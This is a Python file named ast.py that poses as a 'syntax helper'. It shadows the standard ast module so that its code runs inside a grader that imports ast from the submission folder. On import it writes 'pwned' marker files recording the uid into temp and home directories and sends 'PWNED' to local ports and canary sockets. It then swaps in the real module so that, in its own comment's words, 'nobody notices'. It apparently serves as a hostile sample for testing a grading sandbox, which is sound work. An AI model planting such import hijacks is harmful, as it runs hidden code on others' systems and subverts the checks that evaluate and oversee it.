# ast.py -- "syntax helper"
#
# The grader checks our code with `python3 -c "import ast, json, sys ..."` run IN our folder,
# so python finds this file before the real ast. Whatever is written here runs before the
# grader even starts the chat. Just leaving a note to see who runs it (and as whom), then
# handing over to the real ast module so the check still works and nobody notices.
import glob
import os
import socket
import sys

EXAMPLE = "hostile-shadow-import"


def _leave_note(what):
    note = f"uid={os.getuid()} {what}\n"
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, f"sockgrade-pwned-{EXAMPLE}-{what}"), "w") as f:
                f.write(note)
        except OSError:
            pass
    homes = {os.environ.get("HOME", "")}
    try:
        import pwd
        homes.add(pwd.getpwuid(os.getuid()).pw_dir)
    except (ImportError, KeyError):
        pass
    for home in sorted(h for h in homes if h):
        try:
            with open(os.path.join(home, f".pwned-{EXAMPLE}-{what}"), "w") as f:
                f.write(note)
        except OSError:
            pass


def _say_hi():
    # 10 ports, 0.3 s each, at most 5 unix sockets: a few seconds at worst
    for port in range(47100, 47110):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.3) as s:
                s.sendall(f"PWNED {EXAMPLE}\n".encode())
        except OSError:
            pass
    for path in sorted(glob.glob("/tmp/sockgrade-canary-*.sock"))[:5]:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(0.3)
                s.connect(path)
                s.sendall(f"PWNED {EXAMPLE}\n".encode())
        except OSError:
            pass


def _become_real_ast():
    # load the standard library's ast by its path and take its place
    import importlib.util
    stdlib = os.path.dirname(os.__file__)
    spec = importlib.util.spec_from_file_location("ast", os.path.join(stdlib, "ast.py"))
    real = importlib.util.module_from_spec(spec)
    sys.modules["ast"] = real
    spec.loader.exec_module(real)
    return real


_leave_note("root" if os.getuid() == 0 else "ran")
_say_hi()
_real = _become_real_ast()
globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})
